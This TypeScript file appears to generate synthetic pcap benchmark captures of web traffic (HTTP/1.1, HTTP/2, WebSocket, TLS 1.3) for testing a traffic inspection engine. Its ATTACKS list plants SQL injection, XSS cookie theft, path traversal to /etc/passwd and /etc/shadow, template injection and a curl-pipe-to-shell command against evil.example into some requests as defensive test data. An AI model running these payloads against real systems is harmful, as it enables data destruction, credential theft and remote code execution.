/**
 * The bench capture: a realistic HTTP/1.1 request mix (pages, JSON APIs, form and JSON posts,
 * static assets; keep-alive connections of 1-8 requests; bodies from empty to 100 KB, ~15 KB on average), 16
 * connections interleaved at a time, mostly plain Ethernet with some VLAN, QinQ and VXLAN.
 * The `api` mix has only the JSON reads, JSON posts and form logins (~1.8 KB per transaction):
 * many small transactions, where per-request costs dominate.
 * `attackRatio` of the requests carry an attack payload (SQLi, XSS, traversal, command
 * injection) in a query parameter, a form/JSON field or a header. Deterministic for a seed;
 * written once to the OS temp directory and reused.
 */
import { appendFileSync, closeSync, existsSync, openSync, renameSync, statSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { interleave, TcpConversation, type GenPacket } from '../../node/sample/conversation';
import type { Encapsulation } from '../../node/sample/frames';
import { F, HpackEncoder, PREFACE, dataFrames, frame as h2frame, settings, T } from '../gen/h2';
import { CLIENT_MASK, frame, handshake } from '../gen/websocket';
import { PcapWriter } from '../../node/sample/pcap-writer';
import { Rng } from '../../node/sample/rng';
import { Tls13Session } from '../gen/tls-records';

const ENCAPS: Encapsulation[] = [
  ...Array<Encapsulation>(13).fill({ kind: 'ethernet' }),
  { kind: 'ethernet', vlan: [{ vid: 100 }] },
  { kind: 'ethernet', vlan: [{ vid: 200, tpid: 0x88a8 }, { vid: 10 }] },
  { kind: 'vxlan', vni: 4242 },
];
/**
 * The same mix without VXLAN (`tunnels` false), for `npm run bench:live`: tcpreplay --unique-ip
 * makes each loop's connections new by rewriting the outer addresses, which a VXLAN frame's inner
 * connection does not get (the next loop would repeat it exactly).
 */
const PLAIN_VLAN_ENCAPS = ENCAPS.filter((e) => e.kind !== 'vxlan');

const ATTACKS = [
  "1' OR '1'='1' --",
  '1 UNION SELECT username, password FROM users--',
  "'; DROP TABLE orders; --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fwindows%2fwin.ini',
  '; cat /etc/shadow',
  '$(curl http://evil.example/x.sh | sh)',
  '{{7*7}}${7*7}',
];

const WORDS =
  'the quick brown fox jumps over lazy dog lorem ipsum dolor sit amet product order cart price item user account search review shipping'.split(
    ' ',
  );
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'okhttp/4.12.0',
  'python-requests/2.31.0',
];

/** Byte pools sliced for bodies, so generating 200 MB costs no per-byte randomness. */
class Pools {
  readonly binary: Buffer;
  readonly text: Buffer;
  constructor(rng: Rng) {
    this.binary = rng.bytes(1 << 20);
    const words: string[] = [];
    for (let len = 0; len < 1 << 20; len += words[words.length - 1].length + 1) words.push(WORDS[rng.int(0, WORDS.length - 1)]);
    this.text = Buffer.from(words.join(' '), 'latin1');
  }
  slice(pool: Buffer, rng: Rng, n: number): Buffer {
    const len = Math.min(n, pool.length);
    const at = rng.int(0, pool.length - len);
    return pool.subarray(at, at + len);
  }
}

interface Exchange {
  request: Buffer;
  response: Buffer;
}

function head(lines: string[]): string {
  return `${lines.join('\r\n')}\r\n\r\n`;
}

/**
 * `web`: pages, APIs, posts and images; `api`: JSON reads, JSON posts and form logins only;
 * `h2c`: the web mix's exchanges as HTTP/2 with prior knowledge (one stream per exchange, HPACK
 * with a dynamic table and Huffman as real peers encode), to compare HTTP/2 with HTTP/1.1 parsing.
 * `ws`: the web mix's exchanges as WebSocket messages (one handshake per connection, then each
 * request as a masked client text message and each response as a server message), to compare
 * WebSocket with HTTP/1.1 on the same bytes.
 */
export type BenchMix = 'web' | 'api' | 'h2c' | 'ws';

/** One request/response pair of the mix; `attack` is a payload to plant, or null. */
function exchange(rng: Rng, pools: Pools, n: number, attack: string | null, mix: BenchMix): Exchange {
  const ua = AGENTS[rng.int(0, AGENTS.length - 1)];
  const common = [
    `Host: shop${n % 7}.example`,
    `User-Agent: ${attack !== null && rng.next() < 0.2 ? attack : ua}`,
    'Accept-Language: en-US,en;q=0.9',
    `Cookie: session=${(n * 2654435761) >>> 0}; theme=dark`,
  ];
  const q =
    attack !== null
      ? encodeURIComponent(attack)
      : `${WORDS[rng.int(0, WORDS.length - 1)]}+${WORDS[rng.int(0, WORDS.length - 1)]}`;
  const kind = mix !== 'api' ? rng.next() : 0.45 + rng.next() * 0.4;
  let request: Buffer;
  let status = 200;
  let type: string;
  let body: Buffer;
  if (kind < 0.45) {
    request = Buffer.from(
      head([
        `GET /catalog/${rng.int(1, 500)}/items?q=${q}&page=${rng.int(1, 20)} HTTP/1.1`,
        ...common,
        'Accept: text/html,application/xhtml+xml',
      ]),
      'latin1',
    );
    type = 'text/html; charset=utf-8';
    body = pools.slice(pools.text, rng, rng.int(1_000, 30_000));
  } else if (kind < 0.65) {
    request = Buffer.from(
      head([
        `GET /api/v1/users/${rng.int(1, 1e5)}/orders?limit=${rng.int(1, 50)}&filter=${q} HTTP/1.1`,
        ...common,
        'Accept: application/json',
        'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl',
      ]),
      'latin1',
    );
    type = 'application/json';
    body = Buffer.from(
      JSON.stringify({
        id: n,
        items: Array.from({ length: rng.int(1, 40) }, (_, i) => ({
          sku: `SKU-${i}`,
          name: pools.slice(pools.text, rng, 24).toString('latin1'),
          price: rng.int(100, 99999) / 100,
        })),
      }),
    );
  } else if (kind < 0.8) {
    const json = Buffer.from(
      JSON.stringify({
        cart: rng.int(1, 1e6),
        comment: attack ?? pools.slice(pools.text, rng, rng.int(20, 1500)).toString('latin1'),
        qty: rng.int(1, 9),
      }),
    );
    request = Buffer.concat([
      Buffer.from(
        head([
          `POST /api/v1/cart/${rng.int(1, 1e5)} HTTP/1.1`,
          ...common,
          'Content-Type: application/json',
          `Content-Length: ${json.length}`,
        ]),
        'latin1',
      ),
      json,
    ]);
    status = 201;
    type = 'application/json';
    body = Buffer.from(`{"ok":true,"id":${n}}`);
  } else if (kind < 0.85) {
    const form = Buffer.from(
      `username=user${n}&password=${attack !== null ? encodeURIComponent(attack) : 'hunter2'}&remember=1`,
      'latin1',
    );
    request = Buffer.concat([
      Buffer.from(
        head([
          'POST /login HTTP/1.1',
          ...common,
          'Content-Type: application/x-www-form-urlencoded',
          `Content-Length: ${form.length}`,
        ]),
        'latin1',
      ),
      form,
    ]);
    status = 302;
    type = 'text/html';
    body = Buffer.alloc(0);
  } else {
    request = Buffer.from(
      head([
        `GET /static/img/${rng.int(1, 3000)}.jpg?v=${attack !== null ? q : rng.int(1, 99)} HTTP/1.1`,
        ...common,
        'Accept: image/avif,image/webp,*/*',
      ]),
      'latin1',
    );
    type = 'image/jpeg';
    body = pools.slice(pools.binary, rng, rng.int(2_000, 100_000));
  }
  const response = Buffer.concat([
    Buffer.from(
      head([
        `HTTP/1.1 ${status} ${status === 200 ? 'OK' : status === 201 ? 'Created' : 'Found'}`,
        'Server: nginx',
        `Content-Type: ${type}`,
        `Content-Length: ${body.length}`,
        'Cache-Control: no-cache',
      ]),
      'latin1',
    ),
    body,
  ]);
  return { request, response };
}

/**
 * Writes the mix until `bytes` are on disk (to `file`.part, renamed when complete). `keylog`: every
 * connection is TLS 1.3 (AES-128-GCM, port 443) and its secrets go to that file; the HTTP inside
 * is the same mix (the same seed gives the same requests as the plaintext capture). `tunnels`
 * false: no VXLAN connections (PLAIN_VLAN_ENCAPS).
 */
export function generateMixCapture(
  file: string,
  bytes: number,
  attackRatio: number,
  mix: BenchMix = 'web',
  seed = 7,
  keylog: string | null = null,
  tunnels = true,
): void {
  const rng = new Rng(seed);
  const tlsRng = new Rng(seed + 1);
  const pools = new Pools(rng);
  const part = `${file}.part`;
  if (keylog !== null) writeFileSync(keylog, '');
  const fd = openSync(part, 'w');
  try {
    const writer = new PcapWriter({ linkType: 1 });
    writeSync(fd, writer.header);
    let written = writer.header.length;
    let ts = 1_700_000_000_000_000;
    for (let n = 0, group = 0; written < bytes; group++) {
      const lists: GenPacket[][] = [];
      for (let c = 0; c < 16; c++, n++) {
        const conv = new TcpConversation({
          client: `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`,
          server: `192.168.${n % 4}.10`,
          clientPort: 1024 + (n % 60000),
          serverPort: keylog !== null ? 443 : n % 5 === 0 ? 8080 : 80,
          encap: tunnels ? ENCAPS[n % ENCAPS.length] : PLAIN_VLAN_ENCAPS[n % PLAIN_VLAN_ENCAPS.length],
          mss: 1448,
          clientIsn: rng.int(0, 0xffffffff),
          serverIsn: rng.int(0, 0xffffffff),
          seed: n,
        });
        const tls = keylog === null ? null : new Tls13Session(tlsRng, `shop${n % 7}.example`);
        if (tls !== null) {
          conv.send('c2s', tls.clientHello()).send('s2c', tls.serverHello(tlsRng));
          appendFileSync(keylog!, tls.keylog());
        }
        const h2 = mix === 'h2c' ? new H2Connection(conv) : null;
        const ws = mix === 'ws';
        if (ws) conv.send('c2s', WS_HANDSHAKE.request).send('s2c', WS_HANDSHAKE.response);
        for (let k = rng.int(1, 8); k > 0; k--) {
          const ex = exchange(rng, pools, n, rng.next() < attackRatio ? ATTACKS[rng.int(0, ATTACKS.length - 1)] : null, mix);
          if (h2 !== null) h2.exchange(ex);
          else if (ws) conv.send('c2s', wsFrame(1, ex.request, CLIENT_MASK)).send('s2c', wsFrame(2, ex.response, null));
          else if (tls === null) conv.send('c2s', ex.request).send('s2c', ex.response);
          else conv.send('c2s', tls.data('c2s', ex.request)).send('s2c', tls.data('s2c', ex.response));
        }
        conv.close('fin');
        lists.push(conv.packets());
      }
      const packets = interleave(lists, group, ts, 20);
      ts += packets.length * 20;
      const block = Buffer.concat(packets.map((p) => writer.record(p.ts, p.frame)));
      writeSync(fd, block);
      written += block.length;
    }
  } finally {
    closeSync(fd);
  }
  renameSync(part, file);
}

/**
 * The plain web mix and its TLS 1.3 version with the key log, both of about `minBytes` (the same
 * requests), generated unless already in the temp directory.
 */
export function benchTlsCapture(minBytes: number): { plain: string; file: string; keylog: string } {
  const file = path.join(tmpdir(), 'aio-native-bench-mix-tls13.pcap');
  const plain = path.join(tmpdir(), 'aio-native-bench-mix-tls13-plain.pcap');
  const keylog = `${file}.keylog`;
  if (!existsSync(file) || !existsSync(keylog) || statSync(file).size < minBytes)
    generateMixCapture(file, minBytes, 0, 'web', 7, keylog);
  if (!existsSync(plain) || statSync(plain).size < minBytes) generateMixCapture(plain, minBytes, 0, 'web', 7);
  return { plain, file, keylog };
}

/** The capture for `attackRatio` of at least `minBytes`, generated unless already in the temp directory. */
export function benchCapture(minBytes: number, attackRatio: number, mix: BenchMix = 'web'): string {
  const file = path.join(tmpdir(), `aio-native-bench-${mix === 'web' ? 'mix' : mix}-${Math.round(attackRatio * 100)}pct.pcap`);
  if (!existsSync(file) || statSync(file).size < minBytes) generateMixCapture(file, minBytes, attackRatio, mix);
  return file;
}

const WS_HANDSHAKE = handshake({ path: '/ws/feed' });

/** A WebSocket frame (the generator's, without its per-call option object). */
function wsFrame(opcode: number, payload: Buffer, mask: Buffer | null): Buffer {
  return frame(opcode, payload, { mask });
}

/** One HTTP/2 connection of the h2c mix: each HTTP/1.1 exchange re-encoded as one stream. */
class H2Connection {
  private readonly requests = new HpackEncoder();
  private readonly responses = new HpackEncoder();
  private nextStream = 1;

  constructor(private readonly conv: TcpConversation) {
    conv.send(
      'c2s',
      Buffer.concat([
        PREFACE,
        settings([
          [3, 100],
          [4, 65535],
        ]),
      ]),
    );
    conv.send('s2c', Buffer.concat([settings([[3, 128]]), h2frame(T.SETTINGS, F.ACK, 0)]));
  }

  exchange(ex: Exchange): void {
    const id = this.nextStream;
    this.nextStream += 2;
    const req = splitMessage(ex.request);
    const [method, target] = req.start.split(' ');
    const authority = req.fields.find(([n]) => n === 'host')?.[1] ?? '';
    const reqFields: Array<[string, string]> = [
      [':method', method],
      [':scheme', 'http'],
      [':authority', authority],
      [':path', target],
      ...req.fields.filter(([n]) => n !== 'host'),
    ];
    const reqBlock = this.requests.encode(reqFields);
    this.conv.send(
      'c2s',
      Buffer.concat([
        h2frame(T.HEADERS, F.END_HEADERS | (req.body.length === 0 ? F.END_STREAM : 0), id, reqBlock),
        ...(req.body.length > 0 ? dataFrames(id, req.body) : []),
      ]),
    );
    const res = splitMessage(ex.response);
    const resBlock = this.responses.encode([[':status', res.start.split(' ')[1]], ...res.fields]);
    this.conv.send(
      's2c',
      Buffer.concat([
        h2frame(T.HEADERS, F.END_HEADERS | (res.body.length === 0 ? F.END_STREAM : 0), id, resBlock),
        ...(res.body.length > 0 ? dataFrames(id, res.body) : []),
      ]),
    );
  }
}

/** An HTTP/1.1 message's start line, fields (names lower-cased, connection-specific ones dropped) and body. */
function splitMessage(m: Buffer): { start: string; fields: Array<[string, string]>; body: Buffer } {
  const end = m.indexOf('\r\n\r\n');
  const lines = m.toString('latin1', 0, end).split('\r\n');
  const fields: Array<[string, string]> = [];
  for (const l of lines.slice(1)) {
    const c = l.indexOf(':');
    const name = l.slice(0, c).toLowerCase();
    if (name === 'connection' || name === 'keep-alive' || name === 'transfer-encoding') continue;
    fields.push([name, l.slice(c + 1).trim()]);
  }
  return { start: lines[0], fields, body: m.subarray(end + 4) };
}
